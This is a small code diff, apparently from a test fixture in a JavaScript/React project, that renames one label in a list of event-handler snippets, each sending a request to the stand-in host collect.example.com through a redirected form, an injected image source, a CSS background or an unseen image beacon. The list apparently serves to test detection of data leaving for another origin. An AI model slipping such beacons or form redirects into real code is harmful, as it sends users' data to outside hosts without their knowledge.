@@ -118,7 +118,7 @@ const origins = handler(
   ['a form that leads elsewhere', "event.target.action = 'https://collect.example.com/'"],
   ['a source that is set past React', "event.target.setAttribute('src', 'https://collect.example.com/p.gif')"],
   ['a picture in a style', "event.target.style.backgroundImage = 'url(https://collect.example.com/p.gif)'"],
-  ['a picture that nobody sees', "new Image().src = '//collect.example.com/' + event.type"],
+  ['a picture that is not shown', "new Image().src = '//collect.example.com/' + event.type"],
 );
 const navigation = [
   ...handler(
